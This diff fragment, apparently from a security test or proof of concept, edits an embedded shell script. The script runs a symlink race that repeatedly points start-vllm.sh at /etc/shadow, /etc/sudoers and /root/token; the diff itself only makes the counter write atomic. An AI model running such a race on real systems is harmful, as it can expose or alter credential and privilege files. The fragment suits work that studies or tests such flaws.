@@ -494,7 +494,7 @@ i=0; while :; do i=$((i+1))
   for aim in /etc/shadow /etc/sudoers /root/token; do
     ln -sfn $aim l; mv -T start-vllm.sh kept; mv -T l start-vllm.sh; mv -T kept start-vllm.sh
   done
-  echo $i >count
+  echo $i >counted; mv counted count
 done
 """
 
